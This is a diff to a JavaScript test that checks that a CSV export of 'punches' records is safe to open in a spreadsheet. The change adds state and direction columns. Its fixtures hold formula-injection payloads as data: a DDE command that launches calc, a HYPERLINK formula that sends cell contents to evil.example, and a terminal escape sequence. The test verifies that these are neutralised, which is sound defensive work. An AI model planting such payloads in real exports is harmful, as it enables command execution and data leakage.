@@ -53,6 +53,8 @@ describe('punches export is safe to open in a spreadsheet', () => {
       'state',
       'attempts',
       'lastMessage',
+      'stateName',
+      'direction',
     ]);
     expect(rows.slice(1).map((row) => [row[3], row[9], row[8]])).toEqual([
       ["'=cmd|'/C_calc'!A0", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, '1'],
@@ -61,10 +63,11 @@ describe('punches export is safe to open in a spreadsheet', () => {
       ["'@SUM(1)", "'@evil\u001b[2J", '1'],
       ['1001', 'plain, with "quotes"', '1'],
     ]);
-    // On the wire: the line break and the quotes are inside a quoted cell; every record ends in CRLF.
-    expect(r.stdout).toContain(`,"line one\r\nline two"\r\n`);
-    expect(r.stdout).toContain(`,"plain, with ""quotes"""\r\n`);
-    expect(r.stdout).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\r\n`);
+    // On the wire: the line break and the quotes are inside a quoted cell; every record ends in CRLF
+    // (after the state and direction columns, empty: an import records no state).
+    expect(r.stdout).toContain(`,"line one\r\nline two",,\r\n`);
+    expect(r.stdout).toContain(`,"plain, with ""quotes""",,\r\n`);
+    expect(r.stdout).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,\r\n`);
 
     // The list for a person at a terminal shows the same text with control characters escaped.
     const list = await box.cli('punches', '--state', 'rejected');
